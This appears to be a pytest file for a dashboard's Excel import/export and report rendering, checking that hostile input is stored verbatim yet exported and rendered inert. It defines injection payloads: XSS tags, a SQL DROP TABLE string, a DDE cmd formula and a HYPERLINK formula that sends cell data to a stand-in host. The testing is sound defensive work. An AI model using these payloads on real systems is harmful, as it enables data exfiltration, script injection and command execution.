"""Hostile text comes in through the Excel import, is stored verbatim, and is inert wherever it goes out:
the Excel export (no formulas; = + - @ prefixed with '), the weekly pack HTML and the map (escaped),
and back in through a re-import (verbatim again). Both engines."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import select

from gangwen_dash.db import read_session
from gangwen_dash.domain.periods import Filters, Period
from gangwen_dash.exchange import exporter, importer
from gangwen_dash.models import Finding, Member, Proposal, Site
from gangwen_dash.services.base import Actor
from tests.support.workbooks import CHECKS, TODAY, good_rows, to_bytes

ADMIN = Actor(user_id=None, username="tester", role="secretariat")
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SQL = "'; DROP TABLE sites; --"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"


def hostile_rows() -> dict[str, list[list]]:
    rows = good_rows()
    rows["委员"].append([IMG, "经济界", "第一督查组", PLUS, True])
    rows["工地"].append([SCRIPT, "唐闸镇街道", SQL, 32.07, 120.83, FORMULA, "在建"])
    rows["督查记录"].append([SCRIPT, datetime(2019, 11, 25, 10, 0), "第一督查组", "日常督查", [IMG], None, None,
                             None, FORMULA, *CHECKS])
    rows["问题"].append([SCRIPT, datetime(2019, 11, 25, 10, 0), "第一督查组", "S2", "严重", SCRIPT + IMG, "住建局",
                         date(2019, 11, 26), None, "整改中", datetime(2019, 11, 25, 11), None, None, None, None, 0,
                         None])
    rows["提案"].append(["2019-099", FORMULA, AT, "2019-02-01", "提交", SQL, None, None, None, None, False, False,
                         None, SCRIPT])
    return rows


def _import(engine, data: bytes):
    report = importer.import_workbook(ADMIN, data, today=TODAY, engine=engine)
    assert report.ok, [e.text() for e in report.errors]
    return report


def _stored(engine) -> dict:
    with read_session(engine) as s:
        site = s.execute(select(Site).where(Site.name == SCRIPT)).scalar_one()
        finding = s.execute(select(Finding).where(Finding.site_id == site.id)).scalar_one()
        return {
            "site": (site.name, site.address, site.builder),
            "member": tuple(s.execute(select(Member.name, Member.phone).where(Member.name == IMG)).one()),
            "finding": finding.description,
            "notes": finding.inspection.notes,
            "proposal": tuple(s.execute(select(Proposal.title, Proposal.proposer, Proposal.handling_unit, Proposal.progress)
                                  .where(Proposal.number == "2019-099")).one()),
        }


EXPECTED = {"site": (SCRIPT, SQL, FORMULA), "member": (IMG, PLUS), "finding": SCRIPT + IMG, "notes": FORMULA,
            "proposal": (FORMULA, AT, SQL, SCRIPT)}


def test_hostile_text_is_stored_verbatim_and_exported_inert_then_reimported_verbatim(engine, tmp_path, backend,
                                                                                      _templates, request):
    _import(engine, to_bytes(hostile_rows()))
    assert _stored(engine) == EXPECTED
    with read_session(engine) as s:  # the SQL text did nothing
        assert s.execute(select(Site.id)).first() is not None

    path = tmp_path / "export.xlsx"
    exporter.export(ADMIN, path, engine=engine)
    # No cell of any sheet is a formula: the workbook XML has no <f> element at all.
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    texts = [c.value for ws in wb.worksheets[1:] for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
    sites = {r[0].value: r for r in wb["工地"].iter_rows(min_row=2)}
    assert sites[SCRIPT][5].value == "'" + FORMULA and sites[SCRIPT][2].value == SQL
    members = {r[0].value: r for r in wb["委员"].iter_rows(min_row=2)}
    assert members[IMG][3].value == "'" + PLUS
    proposals = {r[0].value: r for r in wb["提案"].iter_rows(min_row=2)}
    assert proposals["2019-099"][1].value == "'" + FORMULA and proposals["2019-099"][2].value == "'" + AT

    # Back into an empty database: the same text, verbatim.
    from tests.support.databases import clone

    fresh_url = clone(backend, _templates(backend, "empty"), tmp_path, request)
    from gangwen_dash import db

    fresh = db.get_engine(fresh_url)
    try:
        _import(fresh, path.read_bytes())
        assert _stored(fresh) == EXPECTED
    finally:
        fresh.dispose()


def test_hostile_text_is_escaped_in_the_weekly_pack_and_the_map(engine):
    _import(engine, to_bytes(hostile_rows()))
    from gangwen_dash import maps
    from gangwen_dash.queries.sites import map_data
    from gangwen_dash.reports.render import render_document
    from gangwen_dash.reports.weekly import build_pack

    with read_session(engine) as s:
        html = render_document(build_pack(s, "2019-W49"))  # the 严重 problem is overdue by then
        data = map_data(s, Period(date(2019, 1, 1), date(2019, 12, 31)), Filters())
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    for raw in (SCRIPT, IMG):
        assert raw not in html
    page = maps.standalone_html(data, maps.resolve_tiles())
    assert SCRIPT not in page and "onerror=alert(1)>" not in page
    assert SCRIPT in set(data.sites["name"])  # the map has the site; only its rendering is escaped


def test_export_of_hostile_data_opens_without_formulas_in_a_buffer(engine):
    _import(engine, to_bytes(hostile_rows()))
    data = exporter.export_bytes(ADMIN, engine=engine)
    wb = load_workbook(BytesIO(data))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
